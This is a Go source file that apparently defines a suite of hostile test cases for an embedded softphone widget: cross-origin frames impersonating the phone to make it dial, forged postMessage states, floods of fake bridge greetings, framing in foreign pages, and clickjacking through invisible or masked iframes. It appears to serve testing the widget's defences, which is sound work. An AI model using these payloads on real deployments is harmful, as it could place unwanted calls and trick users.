package hostile

// poser is a frame that says hello to the page at the top as a softphone does, and dials once it has a key.
const poser = `
	const frame = h.random(), nonce = h.random();
	let key = new Uint8Array(32);
	let name = ASKED ? '' : frame;
	h.hear(async (event) => {
		const { data } = event;
		if (data.cordboard === 'key') {
			name = data.frame;
			key = Uint8Array.from(atob(data.key.replaceAll('-', '+').replaceAll('_', '/')), (c) => c.charCodeAt(0));
		}
		if (data.cordboard !== 'welcome') return;
		const keys = await h.keys(data.session, nonce, data.nonce, key);
		const sealed = await keys.sealUp('call', '', 1, { method: 'Dial', args: [{ number: '201', record: null }], ...(await h.fresh(keys, data.sealed)) });
		(TOP).postMessage({ cordboard: 'call', session: data.session, id: 1, sealed }, '*');
	});
	setInterval(() => (TOP).postMessage({ cordboard: 'hello', frame: name, nonce }, '*'), 250);`

// frames of other origins in the org's page.
func frames() []Attack {
	posing := func(name, guard, where, place, asked, top string) Attack {
		return Attack{Name: name, Guard: guard, Where: where, Harm: Spoke, Steps: "signOn wait wait", Script: `
			const script = "const h = window.hostile; const ASKED = ` + asked + `; const TOP = ` + top + `;" + ` + "`" + poser + "`" + `;
			h.on('signed on', () => {` + place + `});`}
	}
	const framed = `h.frame(h.at(h.evil, script));`
	return of("foreign frames",
		posing("another origin poses as a softphone", "origin+key", "", framed, "false", "top"),
		posing("another origin asks for a key", "origin+foreign", "", framed, "true", "top"),
		posing("the org's own frame poses as a softphone", "origin+key", "", `h.frame(h.at(h.org, script));`, "false", "top"),
		posing("a frame within a frame poses as a softphone", "origin+key", "", `h.frame(h.at(h.evil, "window.hostile.frame(window.hostile.at('" + h.evil + "'," + h.stringify(script) + "))"));`, "false", "top"),
		posing("the page itself poses as a softphone", "frame+origin+key", "", `(0, eval)("(() => {" + script + "})()");`, "false", "window"),
		Attack{Name: "another origin forges a state", Guard: "source+authentication", Harm: Shown, Script: `
			h.on('ringing', () => {
				const message = { cordboard: 'state', session: '', sealed: h.unsealed(1e9, h.wrap(h.state())) };
				h.frame(h.at(h.evil, 'const all = (w) => { for (let i = 0; i < w.length; i++) { w[i].postMessage(' + h.stringify(message) + ', "*"); all(w[i]); } }; setInterval(() => all(top), 100);'));
			});`},
		Attack{Name: "another origin takes every place at the bridge", Guard: "origin", Harm: Hidden, Steps: "wait signOn ring", Script: `
			const script = "const h = window.hostile; setInterval(() => top.postMessage({ cordboard: 'hello', frame: h.random(), nonce: '" + h.random() + "' }, '*'), 100);";
			h.on('framed', () => {
				h.element().remove();
				const frames = Array.from({ length: 18 }, () => h.frame(h.at(h.evil, script)));
				return Promise.all(frames.map((frame) => new Promise((done) => { frame.onload = done; })))
					.then(() => h.pause(1500)).then(() => h.frame(h.address()));
			});`},
		Attack{Name: "a popup of another origin forges a state", Guard: "source+authentication", Where: Chromium, Harm: Shown, Script: `
			h.on('ringing', () => {
				const message = { cordboard: 'state', session: '', sealed: h.unsealed(1e9, h.wrap(h.state())) };
				window.open(h.at(h.evil, 'const all = (w) => { for (let i = 0; i < w.length; i++) { w[i].postMessage(' + h.stringify(message) + ', "*"); all(w[i]); } }; setInterval(() => all(opener), 100);'));
			});`},
	)
}

// greets is a page that frames the softphone and tells home what it is told.
const greets = `
	const h = window.hostile;
	h.hear((event) => h.tell({ greeted: event.data }));`

// framing puts the softphone into pages that are not the org's.
func framing() []Attack {
	top := func(name, opens string) Attack {
		return Attack{Name: name, Guard: "ancestors", When: "early", Harm: Greeted, Steps: justLoaded, Opens: opens}
	}
	in := func(name, script string) Attack {
		return Attack{Name: name, Guard: "ancestors", When: "late", Harm: Greeted, Steps: "wait wait wait", Script: `
			h.hear((event) => {
				if (event.data?.cordboard === 'hello' && event.source !== h.phone()) h.keep({ greeted: event.data });
			});
			h.on('framed', () => {` + script + `});`}
	}
	return of("framing",
		top("a page of another origin", greets+`h.frame(h.address());`),
		top("as an object", greets+`const o = document.createElement('object'); o.data = h.address(); o.type = 'text/html'; document.body.append(o);`),
		top("as an embed", greets+`const o = document.createElement('embed'); o.src = h.address(); document.body.append(o);`),
		top("in a frame set", greets+`const s = document.createElement('frameset'); const f = document.createElement('frame'); f.src = h.address(); s.append(f); document.body.replaceWith(s);`),
		top("around the org's own page", greets+`h.frame(h.org + '/lightning/page/home');`),
		in("in a frame of another origin in the org's page", `h.frame(h.at(h.evil, 'hostile.frame(hostile.address())'));`),
		in("in a sandboxed frame of another origin", `h.frame(h.at(h.evil, 'hostile.frame(hostile.address())'), { sandbox: 'allow-scripts allow-same-origin' });`),
		in("in a frame without an origin", `h.frame('data:text/html,' + encodeURIComponent('<iframe src="' + h.address() + '"></iframe>'));`),
		in("in a sandboxed frame of the org", `h.frame(h.at(h.org, 'hostile.frame(hostile.address())'), { sandbox: 'allow-scripts' });`),
	)
}

// clicks lead a person's click or key to a softphone that they do not see, in a frame of another origin.
func clicks() []Attack {
	jack := func(name, steps, style string) Attack {
		return Attack{Name: name, Guard: "ancestors", Where: Chromium, When: "early", Harm: Spoke, Steps: "signOn " + steps, Script: `
			h.on('signed on', async () => {
				const script = "const f = hostile.frame(hostile.address()); f.style = " + h.stringify(` + "`" + style + "`" + `) + "; f.width = 420; f.height = 640;" +
					"const b = document.createElement('button'); b.textContent = 'Win'; b.style = 'position:absolute;left:0;top:0;width:420px;height:640px;pointer-events:none'; document.body.append(b); document.body.style.margin = 0;" + "f.focus();";
				const frame = h.frame(h.at(h.evil, script), { width: 440, height: 660, allow: 'clipboard-read' });
				frame.style = 'position:fixed;left:0;top:0;z-index:9999;border:0;background:#fff';
				await h.pause(1500);
			});`}
	}
	return of("clickjacking",
		jack("a softphone that cannot be seen", "jackClick", "position:absolute;left:0;top:0;border:0;opacity:0.001"),
		jack("a softphone under a decoy", "jackClick", "position:absolute;left:0;top:0;border:0"),
		jack("a softphone blended away", "jackClick", "position:absolute;left:0;top:0;border:0;mix-blend-mode:multiply;filter:opacity(0)"),
		jack("a softphone cropped", "jackClick", "position:absolute;left:-30px;top:-2px;border:0;clip-path:inset(0 0 500px 200px)"),
		jack("a softphone masked", "jackClick", "position:absolute;left:0;top:0;border:0;mask-image:linear-gradient(transparent,transparent)"),
		jack("keys that go to a softphone", "jackKeys", "position:absolute;left:0;top:0;border:0;opacity:0.001"),
	)
}
